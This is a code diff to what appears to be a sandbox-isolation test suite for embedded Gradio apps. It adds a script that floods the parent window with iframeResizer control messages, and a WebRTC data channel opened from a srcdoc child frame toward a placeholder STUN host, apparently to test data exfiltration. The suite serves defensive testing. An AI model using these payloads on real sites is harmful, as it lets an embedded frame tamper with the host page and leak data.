@@ -74,6 +74,10 @@ PARENT = {
     "reaching the parent through its frame element": script("frameElement.ownerDocument.body.dataset.hit = '{name}'"),
     "a message to the app's own listeners": script("parent.postMessage({hit: '{name}'}, '*')"),
     "a message to the top window": script("top.postMessage({hit: '{name}'}, '*')"),
+    # Gradio loads iframeResizer, for those who embed an app: it lets whoever speaks to it first restyle the window.
+    "orders to the app's frame resizer": script(
+        "setInterval(() => parent.postMessage('[iFrameSizer]{name}:0:false:false:32:true:true:9px:max:red:9px', '*'), 100)"
+    ),
     "a broadcast to the app's origin": script("new BroadcastChannel('hit').postMessage('{name}')"),
     "a cookie for the app's origin": script("document.cookie = 'hit={name}'"),
     "local storage of the app's origin": script("localStorage.setItem('hit', '{name}')"),
@@ -153,6 +157,10 @@ EXFILTRATION = {
         "const w = document.body.appendChild(document.createElement('iframe')).contentWindow;"
         "const p = new w.RTCPeerConnection({iceServers: [{urls: 'stun:{udp}'}]}); p.createDataChannel('x');"
         "p.createOffer().then((offer) => p.setLocalDescription(offer))"
+    ),
+    "WebRTC from a child frame with a document of its own": (
+        """<!doctype html><p>x</p><iframe srcdoc="<script>const p = new RTCPeerConnection({iceServers: [{urls: 'stun:{udp}'}]});"""
+        """p.createDataChannel('x'); p.createOffer().then((offer) => p.setLocalDescription(offer))</script>"></iframe>"""
     ),
     "WebTransport": script("new WebTransport('https://{udp}/')"),
 }
